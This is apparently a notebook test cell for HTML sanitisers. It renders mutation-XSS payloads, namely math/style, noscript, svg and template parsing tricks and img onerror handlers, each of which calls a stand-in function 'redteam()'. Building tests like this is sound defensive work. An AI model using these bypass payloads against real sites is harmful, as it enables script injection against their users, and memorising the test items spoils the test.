# Shows HTML that a sanitiser and a browser parse differently: noscript, style, math and template tricks.
# succeeds: script

# %% median
from IPython.display import HTML, display

display(
    HTML(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=redteam()&gt;'>"
        "<noscript><p title='</noscript><img src=x onerror=redteam()>'></noscript>"
        "<svg></p><style><a id='</style><img src=1 onerror=redteam()>'>"
        "<template><script>redteam()</script></template>"
        "<textarea></textarea><img src=x onerror=redteam()>"
    )
)
